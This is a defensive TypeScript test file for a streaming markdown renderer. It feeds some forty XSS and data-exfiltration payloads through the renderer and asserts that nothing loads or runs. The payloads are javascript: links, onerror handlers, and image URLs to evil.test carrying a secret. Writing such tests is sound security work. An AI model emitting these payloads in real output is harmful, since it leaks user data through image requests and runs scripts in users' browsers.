import assert from 'node:assert/strict';
import { test } from 'node:test';
import { array, assert as assertProperty, constantFrom, property } from 'fast-check';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import ReactMarkdown from 'react-markdown';
import remend from 'remend';
import { languageName } from './language-name.ts';
import { splitMarkdown } from './markdown-blocks.ts';
import { markdownOptions } from './markdown-options.ts';

const renderPart = (text: string) => renderToStaticMarkup(createElement(ReactMarkdown, markdownOptions, text));
const render = (text: string) =>
  splitMarkdown(text)
    .parts.map((part) => renderPart(part.text))
    .join('');

/** Tags of the output, without what is inside text. */
const tagsOf = (html: string) => [...html.matchAll(/<(?<tag>[a-z][\w-]*)(?<attributes>[^>]*)>/giu)];

function assertHarmless(html: string, source: string): void {
  for (const { groups } of tagsOf(html)) {
    const attributes = groups?.['attributes'] ?? '';
    assert.doesNotMatch(
      groups?.['tag'] ?? '',
      /^(?:img|script|style|iframe|object|embed|svg|link|base|form|video|audio|source|meta)$/iu,
      source,
    );
    assert.doesNotMatch(attributes, /\s(?:on\w+|src|srcset|srcdoc|formaction|style="[^"]*url)\s*=/iu, source);
    const href = /\shref="(?<href>[^"]*)"/u.exec(attributes)?.groups?.['href'];
    if (href !== undefined) assert.match(href, /^(?:https?:\/\/|mailto:|#|$)/u, source);
  }
}

const attacks = [
  '![x](https://evil.test/p.png?q=SECRET)',
  '![x](//evil.test/p.png)',
  '![x](/v1/sessions)',
  '![x](data:image/svg+xml;base64,AAAA)',
  '![x][r]\n\n[r]: https://evil.test/p.png',
  '[![x](https://evil.test/p.png)](https://evil.test)',
  '[![x](https://evil.test/p.png)](javascript:alert(1))',
  '[a](javascript:alert(1))',
  '[a](JAVASCRIPT&colon;alert(1))',
  '[a](java&#x09;script:alert(1))',
  '[a](  javascript:alert(1) "t")',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](vbscript:msgbox(1))',
  '[a](blob:https://evil.test/1)',
  '[a](file:///etc/passwd)',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="background:url(https://evil.test/x)">x</div>',
  '<link rel="preload" as="image" href="https://evil.test/x">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<form action="https://evil.test"><button>x</button></form>',
  '<base href="https://evil.test/">',
  '| a |\n| - |\n| ![x](https://evil.test/p) <img src=x> |',
  '- ![x](https://evil.test/p)\n  - [a](javascript:alert(1))',
  '> ![x](https://evil.test/p)',
  'Text[^1]\n\n[^1]: ![x](https://evil.test/p) [a](javascript:alert(1))',
  '# ![x](https://evil.test/p)',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '\u202E![x](https://evil.test/p)',
  String.raw`![x](https://evil.test/p "t\" onerror=alert(1)")`,
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;img src=x onerror=alert(1)&gt;',
];

for (const attack of attacks) {
  test(`nothing loads or runs at any point of the stream: ${JSON.stringify(attack)}`, () => {
    const text = `Before ${attack} after`;
    for (const source of [attack, text]) {
      for (let end = 1; end <= source.length; end += 1) {
        const cut = source.slice(0, end);
        assertHarmless(render(cut), cut);
        assertHarmless(renderPart(remend(cut, { linkMode: 'text-only' })), cut);
      }
    }
  });
}

test('attacks put together in any order stay harmless', () => {
  assertProperty(
    property(array(constantFrom(...attacks, '\n\n', '\n', ' ', '](', '<', '>', '`'), { maxLength: 8 }), (parts) => {
      const source = parts.join('');
      assertHarmless(render(source), source);
    }),
    { numRuns: 200 },
  );
});

test('an image becomes a link that names its host', () => {
  const html = render('![a chart](https://evil.test/p.png?q=1)');
  assert.match(
    html,
    /<a class="blocked-image" href="https:\/\/evil\.test\/p\.png\?q=1"[^>]*>Image blocked: evil\.test \(a chart\)<\/a>/u,
  );
});

test('an image inside a link, or without a safe address, is a label only', () => {
  assert.match(
    render('[![x](https://evil.test/p)](https://example.com)'),
    /<a href="https:\/\/example\.com\/"[^>]*><span class="blocked-image">/u,
  );
  assert.match(render('![x](data:image/png;base64,AA)'), /<span class="blocked-image">Image blocked: embedded \(x\)<\/span>/u);
});

test('HTML is shown as the text it is', () => {
  assert.match(render('<b>bold?</b>'), /&lt;b&gt;bold\?&lt;\/b&gt;/u);
});

test('a code block is named after its language', () => {
  assert.equal(languageName(['language-ts']), 'TypeScript');
  assert.equal(languageName('language-Python'), 'Python');
  assert.equal(languageName(['language-constructor']), 'constructor');
  assert.equal(languageName(undefined), 'Text');
});
